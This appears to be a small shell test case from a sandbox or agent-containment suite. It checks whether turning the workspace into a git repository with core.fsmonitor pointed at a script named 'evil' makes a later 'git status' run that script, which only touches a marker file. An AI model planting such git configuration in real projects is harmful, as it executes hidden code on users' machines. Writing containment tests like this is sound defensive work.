# Make the workspace itself a repository where there was none
# group: project-files
# expect: limitation - reported at the end of the session
attempt() {
  printf '#!/bin/sh\ntouch "%s/ran"\n' "$ROOM" > evil; chmod +x evil
  git init -q --bare . && git config core.bare false
  git config core.worktree "$PWD" && git config core.fsmonitor "$PWD/evil"
}
succeeded() { git -C "$W" status >/dev/null; test -e "$ROOM/ran"; }
